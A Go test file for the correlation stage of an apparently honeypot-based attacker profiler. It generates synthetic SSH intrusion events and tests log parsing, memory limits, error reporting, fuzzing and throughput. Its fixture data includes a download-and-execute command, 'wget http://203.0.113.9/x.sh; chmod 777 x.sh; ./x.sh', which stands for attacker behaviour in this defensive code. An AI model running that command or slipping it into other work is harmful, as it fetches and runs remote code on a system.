package correlate_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/netip"
	"reflect"
	"strings"
	"testing"
	"testing/iotest"
	"time"

	"github.com/decnet/decnet/pkg/decnet"
	"github.com/decnet/decnet/pkg/decnet/eventlog"
	"github.com/decnet/decnet/services/profiler/analysis"
	"github.com/decnet/decnet/services/profiler/correlate"
	"github.com/decnet/decnet/services/profiler/signature"
)

func engine(tb testing.TB) *analysis.Engine {
	tb.Helper()
	set, err := signature.Builtin()
	if err != nil {
		tb.Fatal(err)
	}
	return analysis.New(set)
}

// traffic makes events of n attackers in turn; each guesses on two deckies and runs commands.
type traffic struct {
	attackers int
	n         int
	now       time.Time
}

func newTraffic(attackers int) *traffic {
	return &traffic{attackers: attackers, now: time.Date(2026, 11, 23, 6, 0, 0, 0, time.UTC)}
}

func (t *traffic) next() *decnet.Event {
	i, round := t.n%t.attackers, t.n/t.attackers
	t.n++
	t.now = t.now.Add(3 * time.Millisecond)
	e := &decnet.Event{
		Time: t.now, Decky: fmt.Sprintf("web-%02d", round/6%2+1), Service: "ssh", Session: fmt.Sprintf("s%x-%d", i, round/6),
		Source: netip.AddrFrom4([4]byte{198, byte(18 + i>>16), byte(i >> 8), byte(i)}), SourcePort: 40000,
		Fields: map[string]string{decnet.FieldSeq: fmt.Sprint(t.n), decnet.FieldBoot: "00ff"},
	}
	switch round % 6 {
	case 0:
		e.Kind = decnet.KindConnect
	case 1:
		e.Kind, e.Fields["version"], e.Fields["accepted"] = "client", "SSH-2.0-libssh_0.10.6", "true"
	case 2, 3:
		e.Kind = decnet.KindAuthAttempt
		e.Fields[decnet.FieldPrincipal], e.Fields[decnet.FieldSecret] = "root", fmt.Sprint("password", round)
		e.Fields[decnet.FieldSecretB64], e.Fields[decnet.FieldSecretKind], e.Fields[decnet.FieldAccepted] = "cGFzc3dvcmQ=", "plaintext", fmt.Sprint(round%6 == 3)
	case 4:
		e.Kind, e.Fields[decnet.FieldCommand] = decnet.KindCommand, "cd /tmp && wget http://203.0.113.9/x.sh; chmod 777 x.sh; ./x.sh"
	default:
		e.Kind, e.Fields[decnet.FieldDuration] = decnet.KindDisconnect, "1200"
	}
	return e
}

// log is so many bytes of lines.
type log struct {
	*traffic
	left int
	buf  []byte
}

func (l *log) Read(p []byte) (int, error) {
	if len(l.buf) == 0 {
		if l.left <= 0 {
			return 0, io.EOF
		}
		for len(l.buf) < 64<<10 {
			l.buf = append(eventlog.Append(l.buf, l.next()), '\n')
		}
		l.left -= len(l.buf)
	}
	n := copy(p, l.buf)
	l.buf = l.buf[:copy(l.buf, l.buf[n:])]
	return n, nil
}

func run(tb testing.TB, r io.Reader, o correlate.Options) (map[decnet.AttackerID]decnet.Profile, correlate.Summary) {
	tb.Helper()
	o.Engine = engine(tb)
	profiles := map[decnet.AttackerID]decnet.Profile{}
	sum, err := correlate.Run(tb.Context(), r, o, func(p *decnet.Profile) error {
		if _, twice := profiles[p.Attacker]; twice {
			tb.Errorf("%s comes twice", p.Address)
		}
		profiles[p.Attacker] = *p
		return nil
	})
	if err != nil {
		tb.Fatal(err)
	}
	return profiles, sum
}

func TestProfilesDoNotDependOnMemory(t *testing.T) {
	const size = 2 << 20
	want, whole := run(t, &log{traffic: newTraffic(400), left: size}, correlate.Options{})
	putOff := int64(0)
	o := correlate.Options{Memory: 200 << 10, Dir: t.TempDir(), Progress: func(_, again int64) { putOff = max(putOff, again) }}
	have, little := run(t, &log{traffic: newTraffic(400), left: size}, o)
	if len(want) != 400 || whole != little || !reflect.DeepEqual(jsonOf(t, have), jsonOf(t, want)) {
		t.Errorf("%+v with much memory is not %+v with little, or the profiles differ", whole, little)
	}
	if putOff == 0 {
		t.Error("nothing was put off")
	}
	have, none := run(t, &log{traffic: newTraffic(400), left: size}, correlate.Options{Memory: 1, Dir: t.TempDir()})
	if whole != none || jsonOf(t, have) != jsonOf(t, want) {
		t.Errorf("%+v with much memory is not %+v with none, or the profiles differ", whole, none)
	}
	p := want["c6120000"]
	if p.Behavior.Class == "" || len(p.Deckies) != 2 || p.Accepted == 0 || p.Risk.Score == 0 || len(p.Path) < 2 || p.Path[0].Event != "line 1" {
		t.Errorf("have %+v", p)
	}
}

// jsonOf is how profiles are seen: empty and absent are alike.
func jsonOf(t *testing.T, profiles map[decnet.AttackerID]decnet.Profile) string {
	t.Helper()
	data, err := json.Marshal(profiles)
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

func lines(events ...*decnet.Event) []byte {
	var out []byte
	for _, e := range events {
		out = append(eventlog.Append(out, e), '\n')
	}
	return out
}

func TestWhatIsNoEventIsCountedAndHarmsNobody(t *testing.T) {
	tr := newTraffic(2)
	a, b := lines(tr.next()), lines(tr.next())
	silent := tr.next()
	silent.Source = netip.Addr{}
	input := bytes.Join([][]byte{
		a, []byte("hello\n\r\n"), b, a, lines(silent), []byte("{\"timestamp\":\"yesterday\"}\n"), bytes.Repeat([]byte("x"), 2<<20),
		[]byte("\n"), bytes.TrimSuffix(lines(tr.next()), []byte("\n")),
	}, nil)
	for name, r := range map[string]io.Reader{"at once": bytes.NewReader(input), "byte by byte": iotest.OneByteReader(bytes.NewReader(input))} {
		profiles, sum := run(t, r, correlate.Options{})
		want := correlate.Summary{
			Bytes: int64(len(input)), Lines: 9, Events: 3, Repeated: 1, NoSource: 1, Refused: 3, Attackers: 2,
			FirstRefused: 2, Reason: sum.Reason,
		}
		if got := sum; got.Lines != want.Lines || got.Events != want.Events || got.Repeated != want.Repeated || got.NoSource != want.NoSource ||
			got.Refused != want.Refused || got.Attackers != want.Attackers || got.FirstRefused != want.FirstRefused || !strings.Contains(got.Reason, "RFC 5424") {
			t.Errorf("%s: have %+v, want %+v", name, got, want)
		}
		if p := profiles["c6120001"]; p.Events != 2 {
			t.Errorf("%s: the neighbour has %+v", name, p)
		}
	}
}

func TestParseLine(t *testing.T) {
	tr := newTraffic(1)
	plain := bytes.TrimSpace(lines(tr.next()))
	view := func(members map[string]any) []byte {
		data, err := json.Marshal(members)
		if err != nil {
			t.Fatal(err)
		}
		return data
	}
	for _, test := range []struct {
		name     string
		line     []byte
		attacker decnet.AttackerID
		wrong    string
	}{
		{"a plain line", plain, "c6120000", ""},
		{"the plain line in an object", view(map[string]any{"raw_line": string(plain)}), "c6120000", ""},
		{"an object alone", view(map[string]any{"timestamp": "2026-11-23T06:00:00.123456789Z", "decky": "d", "service": "ssh", "event_type": "connect", "attacker_ip": "::ffff:192.0.2.7"}), "c0000207", ""},
		{"an object of the Python system", view(map[string]any{"timestamp": "2026-11-23 06:00:00", "decky": "d", "service": "ssh", "event_type": "connect", "attacker_ip": "fe80::1%eth0", "raw_line": "<134>1 other"}), "fe800000000000000000000000000001", ""},
		{"nobody caused it", view(map[string]any{"timestamp": "2026-11-23 06:00:00", "decky": "d", "service": "ssh", "event_type": "error"}), "", ""},
		{"no time", view(map[string]any{"decky": "d", "service": "ssh", "event_type": "connect"}), "", "timestamp"},
		{"no address", view(map[string]any{"timestamp": "2026-11-23 06:00:00", "decky": "d", "service": "ssh", "event_type": "connect", "attacker_ip": "x"}), "", "attacker_ip"},
		{"no kind", view(map[string]any{"timestamp": "2026-11-23 06:00:00", "decky": "d", "service": "ssh"}), "", "event_type"},
		{"half an object", []byte(`{"timestamp":"2026`), "", "JSON"},
	} {
		e, err := correlate.ParseLine(test.line)
		switch {
		case (err == nil) != (test.wrong == "") || err != nil && !strings.Contains(err.Error(), test.wrong):
			t.Errorf("%s: have %v, want %q", test.name, err, test.wrong)
		case err == nil && e.Attacker != test.attacker:
			t.Errorf("%s: the attacker is %q, want %q", test.name, e.Attacker, test.attacker)
		}
	}
}

func TestAReadThatFailsIsTold(t *testing.T) {
	broken := errors.New("the disk is gone")
	none := func(*decnet.Profile) error { return nil }
	o := correlate.Options{Engine: engine(t)}
	_, err := correlate.Run(t.Context(), io.MultiReader(&log{traffic: newTraffic(3), left: 1 << 20}, iotest.ErrReader(broken)), o, none)
	if !errors.Is(err, broken) {
		t.Errorf("have %v", err)
	}
	_, err = correlate.Run(t.Context(), &log{traffic: newTraffic(3), left: 1 << 20}, o, func(*decnet.Profile) error { return broken })
	if !errors.Is(err, broken) {
		t.Errorf("an output that is broken gives %v", err)
	}
	o.Memory, o.Dir = 1, "/nowhere"
	_, err = correlate.Run(t.Context(), &log{traffic: newTraffic(400), left: 1 << 20}, o, none)
	if err == nil || !strings.Contains(err.Error(), "/nowhere") {
		t.Errorf("a folder that is not there gives %v", err)
	}
}

func FuzzParseLine(f *testing.F) {
	f.Add(bytes.TrimSpace(lines(newTraffic(1).next())))
	f.Add([]byte(`{"timestamp":"2026-11-23 06:00:00","decky":"d","service":"ssh","event_type":"connect","attacker_ip":"fe80::1%eth0","fields":{"a":"b"}}`))
	en := engine(f)
	f.Fuzz(func(t *testing.T, line []byte) {
		e, err := correlate.ParseLine(line)
		if err != nil {
			return
		}
		var p decnet.Profile
		for e.Seq = 1; e.Seq < 4; e.Seq++ {
			en.Fold(&p, e)
		}
		en.Conclude(&p)
		if p.Events != 3 || p.Risk.Score < 0 || p.Risk.Score > 100 {
			t.Errorf("three events make %d, risk %d", p.Events, p.Risk.Score)
		}
	})
}

// BenchmarkRun reads 64 MiB of 20,000 attackers in turn, with memory for all of them and for some.
func BenchmarkRun(b *testing.B) {
	for _, memory := range []int{256 << 20, 16 << 20} {
		b.Run(fmt.Sprintf("memory=%dMiB", memory>>20), func(b *testing.B) {
			const size = 64 << 20
			data, err := io.ReadAll(&log{traffic: newTraffic(20_000), left: size})
			if err != nil {
				b.Fatal(err)
			}
			b.SetBytes(size)
			events := uint64(0)
			for b.Loop() {
				o := correlate.Options{Engine: engine(b), Memory: memory, Dir: b.TempDir()}
				sum, err := correlate.Run(b.Context(), bytes.NewReader(data), o, func(*decnet.Profile) error { return nil })
				if err != nil {
					b.Fatal(err)
				}
				events += sum.Events
			}
			b.ReportMetric(float64(events)/b.Elapsed().Seconds(), "events/s")
		})
	}
}
